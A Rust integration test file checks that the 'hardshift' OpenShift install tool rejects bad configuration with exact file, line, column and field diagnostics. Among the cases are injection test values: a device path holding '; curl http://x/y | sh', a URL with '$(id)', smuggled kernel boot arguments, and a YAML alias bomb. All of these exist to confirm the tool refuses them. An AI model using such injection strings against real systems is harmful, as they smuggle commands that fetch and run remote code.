//! Bad input: exit code 2, the file, line and column, the field path and a useful message, every
//! problem in one run, and nothing written.

mod common;

use common::*;
use std::path::Path;

const IC: &str = "install-config.yaml";
const AC: &str = "agent-config.yaml";
const HS: &str = "hardshift.yaml";

/// Where the diagnostic must point.
enum At {
    /// The line holding the first line of the replacement text.
    Edit,
    /// The line holding this text (in the edited file).
    Line(&'static str),
    /// No position (cross-file or whole-file problems are still checked for path and message).
    Anywhere,
}

struct Case {
    file: &'static str,
    /// The file the diagnostic names (the edited one unless the rule spans files).
    reported: &'static str,
    from: &'static str,
    to: &'static str,
    path: &'static str,
    message: &'static str,
    at: At,
}

fn case(file: &'static str, from: &'static str, to: &'static str, path: &'static str, message: &'static str, at: At) -> Case {
    Case {
        file,
        reported: file,
        from,
        to,
        path,
        message,
        at,
    }
}

fn cases() -> Vec<Case> {
    use At::*;
    vec![
        case(
            IC,
            "apiVersion: v1",
            "apiVersion: v2",
            "apiVersion",
            r#"install-config version must be "v1""#,
            Edit,
        ),
        case(
            IC,
            "  name: ocp4",
            "  name: Ocp_4",
            "metadata.name",
            "is not a valid DNS-1123 label",
            Edit,
        ),
        case(
            IC,
            "  name: ocp4",
            "  name: a-very-long-cluster-name-that-goes-on-and-on-past-the-limit-x",
            "metadata.name",
            "at most 54 characters",
            Edit,
        ),
        case(
            IC,
            "baseDomain: example.com",
            "baseDomain: example..com",
            "baseDomain",
            "is not a valid domain",
            Edit,
        ),
        case(
            IC,
            "- cidr: 192.168.126.0/24",
            "- cidr: 192.168.126.0/33",
            "networking.machineNetwork[0].cidr",
            "is not a CIDR",
            Edit,
        ),
        case(
            IC,
            "- cidr: 192.168.126.0/24",
            "- cidr: 192.168.126.5/24",
            "networking.machineNetwork[0].cidr",
            "has host bits set",
            Edit,
        ),
        case(
            IC,
            "- cidr: 10.128.0.0/14",
            "- cidr: 192.168.0.0/16",
            "networking.clusterNetwork[0].cidr",
            "overlaps with 192.168.126.0/24",
            Edit,
        ),
        case(
            IC,
            "- 172.30.0.0/16",
            "- 10.130.0.0/16",
            "networking.serviceNetwork[0]",
            "overlaps with 10.128.0.0/14",
            Edit,
        ),
        case(
            IC,
            "- cidr: 10.128.0.0/14",
            "- cidr: 100.64.0.0/14",
            "networking.clusterNetwork[0].cidr",
            "OVNKubernetes reserves",
            Edit,
        ),
        case(
            IC,
            "- 172.30.0.0/16",
            "- 172.0.0.0/8",
            "networking.serviceNetwork[0]",
            "is too large",
            Edit,
        ),
        case(
            IC,
            "hostPrefix: 23",
            "hostPrefix: 12",
            "networking.clusterNetwork[0].hostPrefix",
            "must be between the CIDR's /14 and 30",
            Edit,
        ),
        case(
            IC,
            "networkType: OVNKubernetes",
            "networkType: Calico",
            "networking.networkType",
            "unsupported networkType",
            Edit,
        ),
        case(
            IC,
            "pullSecret: '{\"auths\"",
            "pullSecret: '{auths",
            "pullSecret",
            "invalid pull secret: is not valid JSON",
            Edit,
        ),
        case(
            IC,
            r#"pullSecret: '{"auths":{"registry.ocp4.example.com:5000""#,
            r#"pullSecret: '{"auth":{"registry.ocp4.example.com:5000""#,
            "pullSecret",
            "auths required",
            Edit,
        ),
        case(
            IC,
            "sshKey: ssh-ed25519 AAAAC3",
            "sshKey: ssh-ed25519 AAAAC4",
            "sshKey",
            "ssh key 1 does not parse",
            Edit,
        ),
        case(
            IC,
            "  none: {}",
            "  aws: {region: us-east-1}",
            "platform.aws",
            "is not user-provisioned bare metal",
            Edit,
        ),
        case(
            IC,
            "  none: {}",
            "  none: {}\n  vsphere: {}",
            "platform",
            "must specify exactly one platform",
            Line("platform:"),
        ),
        case(
            IC,
            "  replicas: 3",
            "  replicas: 2",
            "controlPlane.replicas",
            "control plane replicas must be 1, 3, 4 or 5, found 2",
            Edit,
        ),
        case(
            IC,
            "  replicas: 3",
            "  replicas: three",
            "controlPlane.replicas",
            "invalid type: string \"three\", expected i64",
            Edit,
        ),
        Case {
            reported: AC,
            ..case(
                IC,
                "  replicas: 2",
                "  replicas: 3",
                "hosts",
                "2 hosts have `role: worker` but install-config compute[0].replicas is 3",
                Line("hosts:"),
            )
        },
        case(IC, "controlPlane:", "controlPlane: [\n", "", "not valid YAML", Anywhere),
        case(
            IC,
            "  - registry.ocp4.example.com:5000/ocp4/openshift4\n",
            "",
            "imageDigestSources[0].mirrors",
            "at least one mirror is required",
            Anywhere,
        ),
        case(
            AC,
            "macAddress: 52:54:00:00:00:6f",
            "macAddress: 52:54:00:00:00:6e",
            "hosts[5].interfaces[0].macAddress",
            "MAC 52:54:00:00:00:6e is already used by hosts[4]",
            Edit,
        ),
        case(
            AC,
            "macAddress: 52:54:00:00:00:6f",
            "macAddress: 01:00:5e:00:00:6f",
            "hosts[5].interfaces[0].macAddress",
            "multicast",
            Edit,
        ),
        case(
            AC,
            "macAddress: 52:54:00:00:00:6f",
            "macAddress: 52:54:00:00:6f",
            "hosts[5].interfaces[0].macAddress",
            "is not a MAC address",
            Edit,
        ),
        case(
            AC,
            "- ip: 192.168.126.111",
            "- ip: 192.168.126.110",
            "hosts[5].networkConfig",
            "IP 192.168.126.110 is already used by hosts[4]",
            Anywhere,
        ),
        case(
            AC,
            "- ip: 192.168.126.111",
            "- ip: 10.0.0.5",
            "hosts[5].networkConfig.interfaces[0].ipv4.address[0].ip",
            "is not inside a machine network",
            Edit,
        ),
        case(
            AC,
            "- ip: 192.168.126.111",
            "- ip: 192.168.126.10",
            "hosts[5].networkConfig.interfaces[0].ipv4.address[0].ip",
            "is the API VIP",
            Edit,
        ),
        case(
            AC,
            "- ip: 192.168.126.111",
            "- ip: 192.168.126.11",
            "hosts[5].networkConfig.interfaces[0].ipv4.address[0].ip",
            "is the ingress VIP",
            Edit,
        ),
        case(
            AC,
            "  role: bootstrap",
            "  role: master",
            "hosts",
            "exactly one host must have `role: bootstrap`, found 0",
            Line("hosts:"),
        ),
        case(
            AC,
            "- hostname: worker-1\n  role: worker",
            "- hostname: worker-1\n  role: infra",
            "hosts[5].role",
            "role must be master, worker or bootstrap",
            Line("  role: infra"),
        ),
        case(
            AC,
            "- hostname: worker-1",
            "- hostname: worker-0",
            "hosts[5].hostname",
            "hostname \"worker-0\" is already used by hosts[4]",
            Edit,
        ),
        case(
            AC,
            "- hostname: worker-1",
            "- hostname: Worker_1",
            "hosts[5].hostname",
            "is not a valid hostname",
            Edit,
        ),
        case(
            AC,
            "- hostname: worker-1",
            "- hostname: localhost",
            "hosts[5].hostname",
            "names the loopback, not a node",
            Edit,
        ),
        case(
            AC,
            "- ip: 192.168.126.111",
            "- ip: 192.168.126.0",
            "hosts[5].networkConfig.interfaces[0].ipv4.address[0].ip",
            "is the network address of 192.168.126.0/24",
            Edit,
        ),
        case(
            AC,
            "- ip: 192.168.126.111",
            "- ip: 192.168.126.255",
            "hosts[5].networkConfig.interfaces[0].ipv4.address[0].ip",
            "is the broadcast address of 192.168.126.0/24",
            Edit,
        ),
        case(
            AC,
            "next-hop-address: 192.168.126.1\n",
            "next-hop-address: 10.9.9.1\n",
            "hosts[0].networkConfig.routes",
            "gateway 10.9.9.1 is not on the node's subnet",
            Anywhere,
        ),
        case(
            AC,
            "    - name: enp1s0\n      type",
            "    - name: enp9s0\n      type",
            "hosts[0].networkConfig.interfaces[0].name",
            "is not listed in hosts[0].interfaces",
            Edit,
        ),
        case(
            AC,
            "        - 192.168.126.1\n",
            "        - dns.example.com\n",
            "hosts[0].networkConfig.dns-resolver.config.server[0]",
            "is not an IP address",
            Edit,
        ),
        case(
            AC,
            "rendezvousIP: 192.168.126.101",
            "rendezvousIP: 192.168.126.110",
            "rendezvousIP",
            "is not the address of a master",
            Edit,
        ),
        case(
            AC,
            "prefix-length: 24",
            "prefix-length: 25",
            "hosts[0].networkConfig.interfaces[0].ipv4.address[0].prefix-length",
            "differs from the machine network",
            Edit,
        ),
        case(
            HS,
            "apiVIP: 192.168.126.10 ",
            "apiVIP: 10.1.1.10 ",
            "loadBalancer.apiVIP",
            "is not inside a machine network",
            Edit,
        ),
        case(
            HS,
            "apiVIP: 192.168.126.10 ",
            "apiVIP: 192.168.126.300 ",
            "loadBalancer.apiVIP",
            "is not an IP address",
            Edit,
        ),
        case(
            HS,
            "keyAlgorithm: rsa-2048",
            "keyAlgorithm: rsa-1024",
            "pki.keyAlgorithm",
            "unknown key algorithm \"rsa-1024\"",
            Edit,
        ),
        case(HS, "loadBalancer:", "loadbalancer:", "", "unknown field `loadbalancer`", Anywhere),
        case(
            HS,
            "leafValidityDays: 365",
            "leafValidityDays: 4000",
            "pki.leafValidityDays",
            "must be between 1 and the CA validity",
            Edit,
        ),
        case(
            HS,
            "  address: 192.168.126.1 ",
            "  address: bad_name! ",
            "collector.address",
            "neither an IP address nor a DNS name",
            Edit,
        ),
        case(
            HS,
            "  - name: registry.ocp4.example.com",
            "  - name: registry.example.net",
            "dns.records[0].name",
            "registry.example.net is outside ocp4.example.com, the zone the lab's DNS serves",
            Edit,
        ),
        case(
            HS,
            "  - name: registry.ocp4.example.com",
            "  - name: api-int.ocp4.example.com",
            "dns.records[0].name",
            "api-int.ocp4.example.com is one of the records the lab's DNS already has",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 192.168.126.300       # the helper",
            "dns.records[0].ip",
            "\"192.168.126.300\" is not an IP address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 192.168.126.1\n  - name: REGISTRY.ocp4.example.com.\n    ip: 192.168.126.2  #",
            "dns.records[1].name",
            "registry.ocp4.example.com is listed twice",
            Line("  - name: REGISTRY.ocp4.example.com."),
        ),
        case(
            HS,
            "  - name: registry.ocp4.example.com",
            "  - name: master-0.ocp4.example.com",
            "dns.records[0].name",
            "master-0.ocp4.example.com is the name of node master-0",
            Edit,
        ),
        case(
            HS,
            "  - name: registry.ocp4.example.com",
            "  - name: Master-1.ocp4.example.com.",
            "dns.records[0].name",
            "master-1.ocp4.example.com is the name of node master-1",
            Edit,
        ),
        case(
            HS,
            "  - name: registry.ocp4.example.com",
            "  - name: api.ocp4.example.com",
            "dns.records[0].name",
            "api.ocp4.example.com is one of the records the lab's DNS already has",
            Edit,
        ),
        case(
            HS,
            "  - name: registry.ocp4.example.com",
            "  - name: console-openshift-console.apps.ocp4.example.com",
            "dns.records[0].name",
            "console-openshift-console.apps.ocp4.example.com is one of the records the lab's DNS already has",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 0.0.0.0  #",
            "dns.records[0].ip",
            "0.0.0.0 is the unspecified address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: '::'  #",
            "dns.records[0].ip",
            ":: is the unspecified address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 224.0.0.251  #",
            "dns.records[0].ip",
            "224.0.0.251 is a multicast address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: ff02::1  #",
            "dns.records[0].ip",
            "ff02::1 is a multicast address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 255.255.255.255  #",
            "dns.records[0].ip",
            "255.255.255.255 is the broadcast address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 192.168.126.255  #",
            "dns.records[0].ip",
            "192.168.126.255 is the broadcast address of the machine network 192.168.126.0/24",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: 127.0.0.1  #",
            "dns.records[0].ip",
            "127.0.0.1 is a loopback address",
            Edit,
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: '::1'  #",
            "dns.records[0].ip",
            "::1 is a loopback address",
            Edit,
        ),
        // Values that reach the lab's scripts, kernel command lines and servers' configs.
        case(
            AC,
            "- hostname: master-1\n  role: master",
            "- hostname: master-1\n  rootDeviceHints:\n    deviceName: \"/dev/sda; curl http://x/y | sh #\"\n  role: master",
            "hosts[2].rootDeviceHints.deviceName",
            "contains ';': a device path is letters",
            Line("deviceName: \"/dev/sda;"),
        ),
        case(
            AC,
            "- hostname: master-1\n  role: master",
            "- hostname: master-1\n  rootDeviceHints:\n    deviceName: 7\n  role: master",
            "hosts[2].rootDeviceHints.deviceName",
            "must be a string (a device path), it is a number",
            Line("deviceName: 7"),
        ),
        case(
            HS,
            "  diskGiB: 100",
            "  diskGiB: 100\n  installDevice: /dev/vda coreos.inst.ignition_url=http://203.0.113.9/x.ign",
            "lab.installDevice",
            "contains ' '",
            Line("installDevice:"),
        ),
        case(
            HS,
            "  diskGiB: 100",
            "  diskGiB: 100\n  httpBaseUrl: http://192.168.126.1:8080/$(id)",
            "lab.httpBaseUrl",
            "contains '$'",
            Line("httpBaseUrl:"),
        ),
        case(
            HS,
            "  diskGiB: 100",
            "  diskGiB: 100\n  httpBaseUrl: http://192.168.126.1:8080 coreos.inst.install_dev=/dev/sdb",
            "lab.httpBaseUrl",
            "contains ' '",
            Line("httpBaseUrl:"),
        ),
        case(
            HS,
            "  diskGiB: 100",
            "  diskGiB: 100\n  httpBaseUrl: ftp://192.168.126.1",
            "lab.httpBaseUrl",
            "is not an http:// or https:// URL",
            Line("httpBaseUrl:"),
        ),
        case(
            HS,
            "    ip: 192.168.126.1         # the helper",
            "    ip: '::ffff:127.0.0.53'  #",
            "dns.records[0].ip",
            "::ffff:127.0.0.53 is a loopback address",
            Edit,
        ),
    ]
}

/// The bundle directory holds only what the user put there.
fn assert_nothing_written(dir: &Path, label: &str) {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    names.sort();
    names.retain(|n| n != "release" && n != "crds");
    assert_eq!(names, vec![AC, HS, IC], "{label}: something was written");
}

#[test]
fn every_invalid_input_is_reported_with_file_line_path_and_message() {
    let all = cases();
    assert!(all.len() >= 25, "the issue asks for at least 25 cases");
    for c in all {
        let d = example_copy();
        let original = std::fs::read_to_string(d.path().join(c.file)).unwrap();
        let edit_line = original[..original.find(c.from).unwrap()].matches('\n').count() + 1;
        edit(d.path(), c.file, c.from, c.to);
        let label = format!("{} {:?} → {:?}", c.file, c.from, c.to);
        let out = hardshift(&["create", "--dir", d.path().to_str().unwrap()]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{label}: exit code\n{err}");
        // Find the diagnostic line for this file and path.
        let want = if c.path.is_empty() {
            format!(": {}", c.message)
        } else {
            format!(": {}: ", c.path)
        };
        let line = err
            .lines()
            .find(|l| l.trim_start().starts_with(c.reported) && l.contains(&want) && l.contains(c.message))
            .unwrap_or_else(|| panic!("{label}: no diagnostic for {} with {:?}\n{err}", c.path, c.message));
        let edited = std::fs::read_to_string(d.path().join(c.reported)).unwrap();
        let expect_line = match c.at {
            At::Edit => Some(edit_line),
            At::Line(t) => Some(
                edited
                    .lines()
                    .position(|l| l.contains(t))
                    .unwrap_or_else(|| panic!("{label}: {t:?} not in file"))
                    + 1,
            ),
            At::Anywhere => None,
        };
        if let Some(n) = expect_line {
            let col = edited.lines().nth(n - 1).unwrap().find(|ch: char| ch != ' ' && ch != '-').unwrap() + 1;
            let prefix = format!("{}:{n}:{col}: ", c.reported);
            assert!(
                line.trim_start().starts_with(&prefix),
                "{label}: expected position {prefix}\n{line}"
            );
        }
        assert!(
            !err.contains("aGFyZHNoaWZ0OmV4YW1wbGU="),
            "{label}: the pull secret must never be printed"
        );
        assert_nothing_written(d.path(), &label);
    }
}

#[test]
fn all_problems_are_reported_in_one_run() {
    let d = example_copy();
    edit(d.path(), IC, "apiVersion: v1", "apiVersion: v2");
    edit(d.path(), IC, "hostPrefix: 23", "hostPrefix: 40");
    edit(d.path(), AC, "macAddress: 52:54:00:00:00:6f", "macAddress: 52:54:00:00:00:6e");
    edit(d.path(), HS, "keyAlgorithm: rsa-2048", "keyAlgorithm: dsa");
    let out = hardshift(&["create", "--dir", d.path().to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2));
    // The duplicated MAC also disagrees with the nmstate mac-address of the same host: 5 in all.
    assert!(err.contains("5 problems in the inputs"), "{err}");
    for needle in [
        "install-config.yaml:3:1: apiVersion",
        "hostPrefix",
        "agent-config.yaml:",
        "hardshift.yaml:",
        "hint:",
    ] {
        assert!(err.contains(needle), "missing {needle:?}\n{err}");
    }
    assert_nothing_written(d.path(), "four problems");
}

/// A dns.records name above a node's name (a host named by its FQDN in agent-config): dnsmasq's
/// `address=/NAME/` would answer the node's name too, with the record's address.
#[test]
fn a_dns_record_above_a_nodes_name_is_refused() {
    let d = example_copy();
    edit(d.path(), AC, "hostname: master-1", "hostname: master-1.rack1.ocp4.example.com");
    edit(
        d.path(),
        HS,
        "  - name: registry.ocp4.example.com",
        "  - name: rack1.ocp4.example.com",
    );
    let out = hardshift(&["create", "--dir", d.path().to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("hardshift.yaml:24:5: dns.records[0].name: rack1.ocp4.example.com is above the name of node master-1.rack1.ocp4.example.com: dnsmasq would answer"),
        "{err}"
    );
    assert_nothing_written(d.path(), "a record above a node");
}

/// A master with a bad hostname is one problem, not two: the rendezvousIP (its address) is not
/// then called unknown.
#[test]
fn an_invalid_master_adds_no_false_rendezvous_error() {
    let d = example_copy();
    edit(d.path(), AC, "- hostname: master-0", "- hostname: Master_0");
    let out = hardshift(&["create", "--dir", d.path().to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("is not a valid hostname"), "{err}");
    assert!(!err.contains("rendezvousIP"), "{err}");
}

/// A FIFO (or any file that is not a regular file) named install-config.yaml is an input error
/// at once, not a create that hangs reading it.
#[test]
fn a_fifo_as_an_input_is_refused_not_read() {
    // install-config.yaml itself, and a CRD of DIR/crds/ (read later, with the extras).
    for (name, said) in [(IC, "install-config.yaml"), ("crds/zz-fifo.crd.yaml", "zz-fifo.crd.yaml")] {
        let d = example_copy();
        let path = d.path().join(name);
        let _ = std::fs::remove_file(&path);
        let (ok, out) = run("mkfifo", &[path.to_str().unwrap()]);
        assert!(ok, "{out}");
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_hardshift"))
            .args([
                "create",
                "--dir",
                d.path().to_str().unwrap(),
                "--self-contained-nodes",
                "--no-agent",
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let started = std::time::Instant::now();
        while child.try_wait().unwrap().is_none() && started.elapsed() < std::time::Duration::from_secs(60) {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let done = child.try_wait().unwrap().is_some();
        if !done {
            let _ = child.kill();
        }
        let out = child.wait_with_output().unwrap();
        assert!(done, "create hangs on a FIFO at {name}");
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {err}");
        assert!(err.contains(said) && err.contains("not a regular file"), "{name}: {err}");
    }
}

#[test]
fn a_missing_input_file_is_an_input_error() {
    let d = example_copy();
    std::fs::remove_file(d.path().join(AC)).unwrap();
    let out = hardshift(&["create", "--dir", d.path().to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("agent-config.yaml: cannot read") && err.contains("hint: put the file in"),
        "{err}"
    );
    assert!(!d.path().join(".hardshift").exists());
}

#[test]
fn hardshift_yaml_is_optional_and_defaults_to_the_helper() {
    let d = example_copy();
    std::fs::remove_file(d.path().join(HS)).unwrap();
    let out = create(
        d.path(),
        &[
            "--key-algorithm",
            "ecdsa-p256",
            "--release-image",
            "registry.example.com/ocp/release@sha256:0123",
        ],
    );
    let stdout = text(&out.stdout);
    // Without hardshift.yaml, api and *.apps go to the helper at the machine network's first address.
    assert!(stdout.contains("API 192.168.126.1 , ingress 192.168.126.1"), "{stdout}");
    let cluster: serde_json::Value = serde_json::from_slice(&std::fs::read(d.path().join("cluster.json")).unwrap()).unwrap();
    assert_eq!(cluster["collector_address"], "192.168.126.1");
    assert_eq!(cluster["collector_port"], 9443);
    assert!(cluster.get("pull_secret").is_none(), "the pull secret must not be in cluster.json");
    assert!(cluster["install_config"].get("pullSecret").is_none());
}

/// Run `create` on `d` and return its stderr, asserting exit code 2 and nothing written.
fn refused(d: &Path, label: &str) -> String {
    let out = hardshift(&["create", "--dir", d.to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{label}: exit code\n{err}");
    assert_nothing_written(d, label);
    err
}

#[test]
fn misspelled_keys_are_errors_with_a_suggestion() {
    // Each of these was silently ignored before: the mirrors, the gateway and DNS were dropped.
    for (file, from, to, want) in [
        (
            IC,
            "imageDigestSources:",
            "imageDigestSource:",
            "install-config.yaml:27:1: imageDigestSource: unknown field `imageDigestSource`\n    hint: did you mean `imageDigestSources`?",
        ),
        (
            AC,
            "    routes:\n      config:\n      - destination: 0.0.0.0/0\n        next-hop-address: 192.168.126.1\n        next-hop-interface: enp1s0\n        table-id: 254\n- hostname: master-0",
            "    route:\n      config:\n      - destination: 0.0.0.0/0\n        next-hop-address: 192.168.126.1\n        next-hop-interface: enp1s0\n        table-id: 254\n- hostname: master-0",
            "agent-config.yaml:30:5: hosts[0].networkConfig.route: unknown field `route`\n    hint: did you mean `routes`?",
        ),
        (
            AC,
            "    dns-resolver:",
            "    dns-resolvr:",
            "agent-config.yaml:26:5: hosts[0].networkConfig.dns-resolvr: unknown field `dns-resolvr`\n    hint: did you mean `dns-resolver`?",
        ),
        (
            IC,
            "baseDomain: example.com",
            "baseDomian: example.com",
            "install-config.yaml:4:1: baseDomian: unknown field `baseDomian`\n    hint: did you mean `baseDomain`?",
        ),
        (
            HS,
            "  keyAlgorithm:",
            "  keyAlgoritm:",
            ": pki.keyAlgoritm: unknown field `keyAlgoritm`\n    hint: did you mean `keyAlgorithm`?",
        ),
    ] {
        let d = example_copy();
        edit(d.path(), file, from, to);
        let err = refused(d.path(), to);
        assert!(err.contains(want), "{to}: want {want:?}\n{err}");
    }
}

#[test]
fn duplicate_keys_and_second_documents_are_errors() {
    let d = example_copy();
    edit(
        d.path(),
        IC,
        "baseDomain: example.com\n",
        "baseDomain: example.com\nbaseDomain: example.org\n",
    );
    let err = refused(d.path(), "duplicate");
    assert!(
        err.contains("install-config.yaml:5:1: not valid YAML: duplicate key `baseDomain`: first at line 4, column 1, again at line 5"),
        "{err}"
    );

    let d = example_copy();
    let path = d.path().join(AC);
    let mut text = std::fs::read_to_string(&path).unwrap();
    text.push_str("---\nhosts: []\n");
    std::fs::write(&path, &text).unwrap();
    let err = refused(d.path(), "second document");
    assert!(
        err.contains("agent-config.yaml:") && err.contains("a second YAML document"),
        "{err}"
    );
}

#[test]
fn an_alias_bomb_and_an_oversized_file_are_refused_cheaply() {
    // 1.6 KB that expands to 9^10 nodes: before, 3.9 GB and an abort. Under a 512 MiB address
    // space cap the run must still end with a clear input error.
    let d = example_copy();
    let mut bomb = String::from("lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let refs = vec![format!("*a{}", i - 1); 9].join(", ");
        bomb.push_str(&format!("lol{i}: &a{i} [{refs}]\n"));
    }
    assert!(bomb.len() < 2048);
    std::fs::write(d.path().join(HS), &bomb).unwrap();
    let out = std::process::Command::new("prlimit")
        .arg("--as=536870912")
        .arg(env!("CARGO_BIN_EXE_hardshift"))
        .args(["create", "--dir", d.path().to_str().unwrap()])
        .output()
        .unwrap();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("hardshift.yaml:") && err.contains("alias bomb"), "{err}");
    assert_nothing_written(d.path(), "bomb");

    // A 50 MB value in install-config.yaml would be copied into cluster-config-v1.
    let d = example_copy();
    let big = format!("sshKey: ssh-ed25519 {}\n", "A".repeat(50 << 20));
    edit(
        d.path(),
        IC,
        "sshKey: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOnfYaqQJXVLWp075cgHnwzdEtrlaCzGK45NguJ8ouqq admin@helper.ocp4.example.com\n",
        &big,
    );
    let err = refused(d.path(), "50 MB");
    assert!(
        err.contains("install-config.yaml: cannot read: larger than 1024 KiB")
            && err.contains("hint: the file must be UTF-8 YAML of at most 1 MiB"),
        "{}",
        &err[..err.len().min(2000)]
    );
}

/// A bad `--agent-binary` or `--agent-url` is an input error found before anything is made: the
/// agent is read beside the key generation, but checked first.
#[test]
fn a_bad_agent_binary_or_url_is_an_input_error_and_nothing_is_written() {
    let d = example_copy();
    let dir = d.path().to_str().unwrap();
    let not_elf = d.path().join("not-an-agent");
    std::fs::write(&not_elf, "#!/bin/sh\necho hi\n").unwrap();
    let missing = d.path().join("no-such-agent");
    // A FIFO in the agent's place once hung create until someone wrote to it.
    let fifo = d.path().join("agent-fifo");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let agent = agent_bin();
    for (args, needle) in [
        (vec!["--agent-binary", fifo.to_str().unwrap()], "agent-fifo: not a regular file"),
        (vec!["--agent-binary", not_elf.to_str().unwrap()], "not an ELF executable"),
        (vec!["--agent-binary", missing.to_str().unwrap()], "no-such-agent: No such file"),
        (
            vec![
                "--agent-binary",
                agent.to_str().unwrap(),
                "--agent-url",
                "ftp://192.168.126.1/agent",
            ],
            "expected an http:// or https:// URL",
        ),
    ] {
        let mut all = vec!["create", "--dir", dir, "--key-algorithm", "ecdsa-p256", "--self-contained-nodes"];
        all.extend(&args);
        let out = hardshift(&all);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains(needle), "{args:?}: {err}");
        let state = d.path().join(".hardshift");
        let made: Vec<String> = std::fs::read_dir(&state)
            .map(|rd| rd.flatten().map(|e| e.file_name().to_string_lossy().to_string()).collect())
            .unwrap_or_default();
        assert!(made.iter().all(|n| n == "lock"), "{args:?}: {made:?}");
        assert!(!d.path().join("pki").exists());
    }
}
